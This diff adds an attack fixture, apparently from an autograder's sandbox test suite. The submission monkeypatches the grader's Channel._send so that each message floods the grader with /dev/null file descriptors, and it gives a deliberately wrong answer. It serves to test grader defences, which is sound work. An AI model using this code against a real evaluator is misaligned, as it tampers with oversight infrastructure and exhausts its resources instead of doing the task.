@@ -1,0 +1,26 @@
+# ---
+# attack: 'Sends descriptors and urgent bytes along with its answers, to fill the grader''s table.'
+# class: forging or flooding wire frames and handles
+# sandboxes: [namespaces, off]
+# ---
+# %% before="q1"
+import gc
+import os
+import socket
+
+wire = next(thing for thing in gc.get_objects() if type(thing) is socket.socket and thing.family == socket.AF_UNIX)
+null = os.open("/dev/null", os.O_RDONLY)
+genuine = type(wire).send
+from autograder.candidate.wire import Channel
+
+
+def generous(self, part, deadline):
+    while part:
+        part = part[socket.send_fds(self.sock, [part], [null] * 50) :]
+
+
+Channel._send = generous
+
+# %% question="q1"
+def double(x):
+    return np.asarray(x) - 100
